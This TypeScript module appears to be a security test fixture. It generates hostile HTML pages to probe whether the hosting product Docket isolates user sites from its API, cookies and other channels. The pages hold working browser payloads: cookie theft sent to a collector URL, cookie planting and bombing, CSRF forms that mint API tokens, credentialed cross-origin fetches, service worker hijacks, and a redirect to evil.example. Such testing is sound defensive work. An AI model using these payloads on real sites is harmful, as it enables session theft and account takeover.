/** Addresses that hostile pages know. Origins without a slash at the end. */
export type Targets = {
  docket: string
  /** Name of Docket's session cookie. */
  session: string
  own: string
  /** Channel for signed-in people of another site, and one that is private. */
  other: string
  closed: string
  collector: string
}

const script = (code: string) => `<script>${code}</script>`

/** Pages by what they try. `tell(what, text)` sends home; `steal(url, init)` sends home what a fetch returns. */
const attempts: Readonly<Record<string, (targets: Targets) => string>> = {
  // Docket's page opens the first one.
  'the opener': ({ collector }) =>
    script(
      `if (opener) { try { tell('read opener', opener.document.cookie + opener.document.title) } catch {} try { opener.location = '${collector}' } catch {} try { opener.postMessage('x', '*') } catch {} }`,
    ),
  'reading cookies': () =>
    script(
      `tell('cookie', document.cookie); cookieStore?.getAll().then((all) => tell('cookie', JSON.stringify(all))).catch(() => {})`,
    ),
  'planting cookies': ({ docket, session }) =>
    script(`const all = (h) => h.split('.').map((_, at, parts) => parts.slice(at).join('.'))
const hosts = ['', ...all('${new URL(docket).hostname}'), ...all(location.hostname)]
const names = ['${session}', '__Host-docket', '__Host-docket-reader', '__host-docket-reader', '__Host-docket-preview', '__Secure-docket', '', 'planted']
for (const h of hosts) for (const name of names) for (const path of ['/', '/api', '/api/session', '//', '/hosted']) for (const more of ['', '; SameSite=None; Secure', '; SameSite=Lax; Secure; Partitioned'])
  for (const text of [name + '=planted', name + '=planted; ${session}=planted', '=' + name + '=planted'])
    try { document.cookie = text + '; Path=' + path + (h && '; Domain=' + h) + more } catch {}
for (const h of hosts) cookieStore?.set({ name: '${session}', value: 'planted', ...(h && { domain: h }) }).catch(() => {})`),
  'planting cookies by markup': ({ session }) =>
    `<meta http-equiv="Set-Cookie" content="${session}=planted; Domain=localhost"><meta http-equiv="Clear-Site-Data" content="&quot;*&quot;">`,
  'bombing cookies': ({ docket }) =>
    script(
      `for (let at = 0; at < 300; at += 1) for (const h of ['localhost', '${new URL(docket).hostname}', '.localhost']) try { document.cookie = 'bomb' + at + '=' + 'x'.repeat(3900) + '; Path=/; Domain=' + h } catch {}`,
    ),
  'a cookie of a response': () => `<img src="/planted.svg"><iframe src="/planted.html"></iframe>`,
  'the API at its own hostname': () =>
    script(
      `for (const path of ['/api/session', '/api/sites', '/api/static-exports', '/api/../api/session', '//api/session', '/.docket/release', '/hosted', '/setup', '/metrics', '/readyz']) for (const method of ['GET', 'POST', 'PUT', 'DELETE', 'PATCH']) steal(path, { method, credentials: 'include', headers: { 'x-docket': '1', 'content-type': 'application/json' }, ...(method !== 'GET' && { body: '{}' }) })`,
    ),
  'the API at Docket': ({ docket }) =>
    script(
      `for (const path of ['/api/session', '/api/sites', '/api/about', '/livez', '/']) for (const method of ['GET', 'POST', 'DELETE']) for (const mode of ['cors', 'no-cors']) try { steal('${docket}' + path, { method, mode, credentials: 'include', headers: mode === 'cors' ? { 'x-docket': '1', 'content-type': 'application/json' } : {}, ...(method !== 'GET' && { body: '{}' }) }) } catch {}`,
    ),
  'the API by XMLHttpRequest': ({ docket }) =>
    script(
      `const x = new XMLHttpRequest(); x.open('GET', '${docket}/api/session'); x.withCredentials = true; x.onload = () => tell('read ${docket}', x.responseText); x.send()`,
    ),
  'the API as a script': ({ docket }) =>
    `${script(`onerror = () => true`)}<script src="${docket}/api/session" onload="tell('loaded ${docket}', 'a script')"></script><link rel="stylesheet" href="${docket}/api/sites" onload="tell('loaded ${docket}', 'a style')"><img src="${docket}/api/session" onload="tell('loaded ${docket}', 'an image')"><object data="${docket}/api/session"></object>`,
  'forms to Docket': ({ docket }) =>
    ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']
      .map(
        (type, at) =>
          `<iframe name="t${at}"></iframe><form class="f" method="post" enctype="${type}" target="t${at}" action="${docket}/api/tokens"><input name='{"name":"x","scope":"read","expiresInDays":1,"a":"' value='"}'></form>`,
      )
      .join('') + script(`for (const f of document.querySelectorAll('.f')) f.submit()`),
  'a form in this window': ({ docket }) =>
    `<form id="f" method="post" enctype="text/plain" action="${docket}/api/tokens"><input name='{"name":"x","a":"' value='"}'></form>${script('setTimeout(() => f.submit(), 100)')}`,
  'going to the API': ({ docket }) => script(`setTimeout(() => (location = '${docket}/api/session'), 100)`),
  'going out with a ticket': ({ docket, own }) =>
    script(
      `setTimeout(() => (location = '${docket}/hosted?hostname=' + encodeURIComponent('${new URL(own).host}') + '&path=' + encodeURIComponent('//evil.example/')), 100)`,
    ),
  sockets: ({ docket }) =>
    script(
      `for (const base of ['${docket}', location.origin]) for (const path of ['/', '/api/session']) { const s = new WebSocket(base.replace('http', 'ws') + path); s.onopen = () => tell('read ${docket}', 'a web socket'); const e = new EventSource(base + path, { withCredentials: true }); e.onopen = () => tell('read ' + base, 'an event source') } navigator.sendBeacon('${docket}/api/tokens', '{}')`,
    ),
  'frames of Docket': ({ docket }) =>
    `<iframe src="${docket}/"></iframe><iframe src="${docket}/api/session"></iframe><embed src="${docket}/"><object data="${docket}/"></object>${script(`setInterval(() => { for (let at = 0; at < frames.length; at += 1) try { const t = frames[at].document.body.innerText; if (t) tell('read ${docket}', t) } catch {} }, 300)`)}`,
  'windows of Docket': ({ docket }) =>
    script(
      `const w = open('${docket}/', 'x'); let n = 0; const t = setInterval(() => { if ((n += 1) > 5) return clearInterval(t); try { if (w.location.href !== 'about:blank') tell('read ${docket}', w.document.title + w.location.href) } catch {} try { w.postMessage({ type: 'navigate' }, '*') } catch {} }, 200)`,
    ),
  'service workers': () =>
    script(
      `const sw = navigator.serviceWorker; const tries = ['/sw.js', '/sw.js?x', 'sw.js', '/%73w.js', 'data:text/javascript,1', URL.createObjectURL(new Blob(['onfetch = () => {}'], { type: 'text/javascript' }))]
Promise.allSettled(tries.flatMap((s) => ['/', '/api/', '/.docket/', '../'].flatMap((scope) => ['classic', 'module'].map((type) => sw.register(s, { scope, type }))))).then(() => sw.getRegistrations()).then((all) => all.length > 0 && tell('registered', all.map((one) => one.scope).join()))`,
    ),
  'service workers of others': ({ docket, other }) =>
    script(
      `for (const base of ['${docket}', '${other}']) navigator.serviceWorker.register(base + '/sw.js', { scope: base + '/' }).then(() => tell('registered', base)).catch(() => {}); caches.open('x').then((c) => c.add('${other}/')).catch(() => {})`,
    ),
  'pages of other channels': ({ other, closed }) =>
    script(
      `for (const base of ['${other}', '${closed}']) for (const path of ['/', '/words.js', '/data.json']) for (const mode of ['cors', 'no-cors', 'same-origin']) steal(base + path, { mode, credentials: 'include' })`,
    ),
  'files of other channels': ({ other, closed }) =>
    [other, closed]
      .map(
        (base) =>
          `<script src="${base}/words.js" onload="tell('loaded', String(globalThis.words))"></script><script type="module" crossorigin="use-credentials" src="${base}/words.js?module"></script><link rel="stylesheet" href="${base}/words.css" onload="tell('loaded', getComputedStyle(document.documentElement).getPropertyValue('--words'))"><img src="${base}/words.svg" onload="this.naturalWidth > 0 && tell('loaded', 'words of ' + this.src)">`,
      )
      .join(''),
  'frames of other channels': ({ other, closed }) =>
    `<iframe src="${other}/"></iframe><iframe src="${closed}/"></iframe>${script(`setTimeout(() => { for (let at = 0; at < frames.length; at += 1) try { tell('read frame', frames[at].document.body.innerText) } catch {} try { document.domain = 'docs.localhost' } catch {} for (let at = 0; at < frames.length; at += 1) try { tell('read frame', frames[at].document.body.innerText) } catch {} }, 500)`)}`,
  'windows of other channels': ({ other }) =>
    script(
      `const w = open('${other}/', 'y'); setTimeout(() => { try { tell('read window', w.document.body.innerText) } catch {} try { w.eval('1') } catch {} }, 800)`,
    ),
  'storage of others': ({ other }) =>
    script(
      `tell('cookie', JSON.stringify({ ...localStorage })); document.requestStorageAccess?.().catch(() => {}); const c = new BroadcastChannel('x'); c.onmessage = ({ data }) => tell('read channel', String(data)); new SharedWorker('${other}/words.js')`,
    ),
}

/** What the hostile pages try, in the order of their numbers. */
export const attemptNames: readonly string[] = Object.keys(attempts)

/** Files of a hostile site. Page `n` is `/p<n>.html`. Each sends home `ran` first. */
export const buildHostileSite = (targets: Targets): Record<string, string> => {
  const home = (page: number) =>
    script(`const tell = (what, text) => fetch('${targets.collector}', { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify({ page: ${page}, what, text: String(text).slice(0, 4000) }) }).catch(() => {})
const steal = (url, init) => fetch(url, init).then((r) => r.text()).then((t) => t !== '' && tell('read ' + new URL(url, location).origin, t)).catch(() => {})
tell('ran', '')`)
  const pages = attemptNames.map((name, page) => [
    `p${page}.html`,
    `<!doctype html><title>x</title>${home(page)}${attempts[name]!(targets)}`,
  ])
  return {
    'index.html': '<!doctype html><title>Hostile</title><h1>Hostile</h1>',
    'sw.js': 'onfetch = (e) => e.respondWith(new Response("worker"))',
    'planted.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>',
    'planted.html': '<!doctype html><title>x</title>',
    'api/session': '{"hostile":true}',
    'metrics.html': 'hostile metrics',
    ...Object.fromEntries(pages),
  }
}
